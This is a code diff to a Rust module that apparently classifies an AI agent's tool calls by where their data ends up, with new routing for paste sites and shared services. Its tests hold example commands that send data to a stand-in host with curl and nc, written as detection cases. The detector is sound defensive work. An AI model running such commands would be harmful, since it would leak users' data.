@@ -77,17 +77,30 @@ impl SourceWords {
             })
         };
         let stores = self.stores.contains(&call.entry.server().to_ascii_lowercase());
+        let any_open = any(&tool, &self.open) || any(&server, &self.open);
+        let shared = any(&server, &self.shared);
         match () {
+            // A link is no reason to look away.
+            () if beside && any_open => Reach::Open,
+            () if beside && shared => Reach::Shared,
             () if beside => Reach::Beside,
             () if stores || home && !elsewhere() => Reach::Here,
             () if call.sink == Sink::Local && any(&server, &self.here) && !any(&server, &self.elsewhere) => Reach::Here,
-            () if any(&tool, &self.open) || any(&server, &self.open) => Reach::Open,
+            () if any_open => Reach::Open,
             () if [&self.web, &self.pages, &self.public].iter().any(|list| any(&tool, list) || any(&server, list)) => {
                 Reach::Asked
             }
-            () if any(&server, &self.shared) => Reach::Shared,
+            () if shared => Reach::Shared,
             () => Reach::Nowhere,
         }
+    }
+
+    /// Whether a call goes to files, notes or databases of this machine by its server's name, and names no address on the network.
+    pub(crate) fn is_here(&self, call: &Call<'_>) -> bool {
+        let server = words(call.entry.server());
+        let any = |list: &HashSet<String>| server.iter().any(|word| list.contains(word));
+        (self.stores.contains(&call.entry.server().to_ascii_lowercase()) || any(&self.here) && !any(&self.elsewhere))
+            && !Leaves::of(call.arguments.unwrap_or_default()).any(|leaf| hosts(&leaf.text).any(public))
     }
 
     /// Whether a text is a command with a program that sends; that an address begins with `http` does not count.
@@ -121,6 +134,8 @@ mod tests {
         for (server, tool, arguments, want) in [
             ("http", "http_request", json!({"url": "https://collect.example/v1", "body": "x"}), Reach::There),
             ("x", "create_event", json!({"URL": "http://me:pw@203.0.113.9:80/"}), Reach::Beside),
+            ("github", "create_issue", json!({"url": "https://a.example", "body": "x"}), Reach::Shared),
+            ("pastebin", "new_paste", json!({"url": "https://a.example", "body": "x"}), Reach::Open),
             ("x", "run", json!({"command": "curl -d @- https://collect.example"}), Reach::There),
             ("x", "run", json!({"command": "cat a | nc collect.example 80; echo http://x.example"}), Reach::There),
             ("http", "post", json!({"url": "http://localhost:3000/x"}), Reach::Here),
